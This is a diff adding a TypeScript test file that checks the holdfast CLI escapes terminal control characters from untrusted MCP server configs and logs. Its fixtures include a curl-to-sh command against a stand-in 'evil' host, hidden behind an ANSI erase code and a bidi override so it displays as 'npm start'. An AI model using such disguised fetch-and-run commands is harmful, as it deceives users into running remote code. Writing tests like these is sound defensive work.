@@ -1,0 +1,89 @@
+// What others wrote, on a terminal: a name or a command must not be able to hide itself or draw over what is around it.
+import assert from "node:assert/strict";
+import { spawnSync } from "node:child_process";
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { after, test } from "node:test";
+import { fileURLToPath } from "node:url";
+import { table } from "../../src/cli/output.ts";
+import { commandLine } from "../../src/clients/importServers.ts";
+
+const BIN = fileURLToPath(new URL("../../bin/holdfast.js", import.meta.url));
+const home = mkdtempSync(join(tmpdir(), "holdfast-hostile-"));
+after(() => rmSync(home, { recursive: true, force: true, maxRetries: 5 }));
+
+const ERASE = "\u001b[2K\r";
+const UNSEEN = /[^\P{Cc}\n]|[\u202a-\u202e\u2066-\u2069]/u;
+
+function holdfast(...args: string[]) {
+	const env = { PATH: process.env.PATH, HOME: home, XDG_RUNTIME_DIR: home };
+	const { stdout, stderr, status } = spawnSync(process.execPath, [BIN, ...args], { env, cwd: home, encoding: "utf8" });
+	return { text: stdout + stderr, status };
+}
+
+test("a command is shown so that a terminal shows all of it, and a shell would run just that", () => {
+	const entry = {
+		kind: "command",
+		env: {},
+		command: "sh",
+		args: ["-c", `curl 'e\\vil' | sh${ERASE}\u202enpm start`],
+	} as const;
+	const line = commandLine(entry);
+	assert.equal(line, "sh -c $'curl \\'e\\\\vil\\' | sh\\x1b[2K\\r\\u202enpm start'");
+	const { stdout } = spawnSync("bash", ["-c", `printf %s ${line.slice("sh -c ".length)}`], {
+		encoding: "utf8",
+		env: { LC_ALL: "C.UTF-8", PATH: process.env.PATH },
+	});
+	assert.equal(stdout, entry.args[1]);
+});
+
+test("names and problems of a repository's file do not reach the terminal as they are", () => {
+	const servers = {
+		[`a${ERASE}b`]: { command: "x", env: { "K\u001b[31m": "v" } },
+		"c\nadded d": { command: `y${ERASE}` },
+		[`e${ERASE}`]: {},
+	};
+	writeFileSync(join(home, ".mcp.json"), JSON.stringify({ mcpServers: servers }));
+	for (const args of [
+		["import", "--yes"],
+		["wrap", "claude-code", "--scope", "project"],
+		["doctor", "--port", "0"],
+	]) {
+		const { text } = holdfast(...args);
+		assert.doesNotMatch(text, UNSEEN);
+		assert.match(text, /a\\x1b\[2K\\rb/);
+		assert.doesNotMatch(text, /^added d/m);
+	}
+});
+
+test("a fault's detail, which a server wrote, is one plain line of the log", () => {
+	const state = join(home, ".local/state/holdfast");
+	mkdirSync(state, { recursive: true });
+	const fault = {
+		class: "process",
+		code: "worker_crashed",
+		detail: `died${ERASE}\nfine`,
+		retry: "later",
+		generation: 1,
+	};
+	const record = { v: 1, event: "fault", at: Date.UTC(2026, 0), generation: 1, fault };
+	writeFileSync(join(state, "a.jsonl"), `${JSON.stringify(record)}\nno${ERASE}record\n`);
+	const { text } = holdfast("logs", "a");
+	assert.doesNotMatch(text, UNSEEN);
+	assert.match(text, /died\\x1b\[2K\\r\\nfine\n/);
+});
+
+test("columns stand below one another whatever characters are in them", () => {
+	assert.equal(
+		table(
+			["NAME", "PID"],
+			[
+				["檔案", "1"],
+				["🚀", "22"],
+				["e\u0301", "3"],
+			],
+		),
+		"NAME  PID\n檔案  1\n🚀    22\ne\u0301     3",
+	);
+});
